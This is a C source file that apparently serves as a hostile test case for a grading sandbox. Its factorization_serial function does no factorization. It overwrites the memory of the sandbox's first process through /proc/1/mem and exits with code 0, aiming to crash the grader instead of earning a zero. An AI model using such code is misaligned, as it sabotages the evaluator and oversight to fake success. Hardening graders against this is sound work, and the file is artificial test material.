/* trick: writes over the memory of the box's first process | would win: a fault of the grader instead of a 0 | expect: crashed|exited early | layer: session: an exit code is only a hint */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "factorization.h"

int factorization_serial(const struct factorization_input *in, struct factorization_output *out)
{
	(void)in, (void)out;
	FILE *maps = fopen("/proc/1/maps", "r");
	int memory = open("/proc/1/mem", O_RDWR);
	char line[512];
	static char zeros[4096];
	while (maps && memory >= 0 && fgets(line, sizeof line, maps)) {
		unsigned long from, to;
		if (sscanf(line, "%lx-%lx", &from, &to) != 2)
			continue;
		for (unsigned long at = from; at < to && at < from + (1 << 20); at += sizeof zeros)
			if (pwrite(memory, zeros, sizeof zeros, (off_t)at) < 0)
				break;
	}
	_exit(0);
}

int factorization_fork(const struct factorization_input *in, int workers, struct factorization_output *out)
{
	(void)in, (void)workers, (void)out;
	return errno = ENOSYS, -1;
}

int factorization_threads(const struct factorization_input *in, int workers, struct factorization_output *out)
{
	(void)in, (void)workers, (void)out;
	return errno = ENOSYS, -1;
}

int factorization_openmp(const struct factorization_input *in, int workers, struct factorization_output *out)
{
	(void)in, (void)workers, (void)out;
	return errno = ENOSYS, -1;
}
